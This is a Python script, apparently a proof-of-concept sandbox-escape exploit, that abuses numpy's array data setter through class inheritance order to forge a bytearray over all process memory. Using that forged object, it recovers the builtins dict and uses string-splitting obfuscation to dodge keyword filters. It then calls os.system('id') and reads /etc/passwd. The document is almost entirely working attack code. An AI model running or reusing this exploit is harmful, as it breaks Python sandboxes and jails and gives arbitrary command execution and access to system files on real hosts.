# source: numpy array_data_set (getset.c); CPython fake-object technique (pyjail/CTF 'fake bytearray' write-ups)
# family: foreign self by inheritance order: a plain script class whose method sets self.data is mixed before np.ndarray, so self is an object array
# goal: object array pointed at script bytes via self.data -> forged bytearray over all memory -> builtins dict -> __import__('os').system('id'), read /etc/passwd
import numpy as np


class Buf:
    def attach(self, raw):
        self.data = raw
        return self


class Arr(Buf, np.ndarray):
    pass


def point(raw):
    return Arr((1,), object).attach(raw)


M = (1 << 64) - 1


def q(n):
    return (n & M).to_bytes(8, "little")


def addr_of(o):
    box = np.empty(1, dtype=object)
    box[0] = o
    return int.from_bytes(box.tobytes(), "little")


def helper():
    return 1


def as_object(addr, keep):
    raw = q(addr)
    keep.append(raw)
    a = point(raw)
    keep.append(a)
    return a[0]


keep = []
fake = q(1 << 40) + q(addr_of(bytearray)) + q(1 << 62) + q(1 << 62) + q(0) + q(0) + q(0)
keep.append(fake)
mem = as_object(addr_of(fake) + 32, keep)
print("forged object:", type(mem), len(mem))
fa = addr_of(helper)
bd = as_object(int.from_bytes(mem[fa + 24:fa + 32], "little"), keep)
u = chr(95) * 2
imp = bd[u + "imp" + "ort" + u]
osm = imp("o" + "s")
print("module:", osm)
bd["get" + "attr"](osm, "sys" + "tem")("id")
print(bd["op" + "en"](chr(47) + "etc" + chr(47) + "passwd").read()[:120])
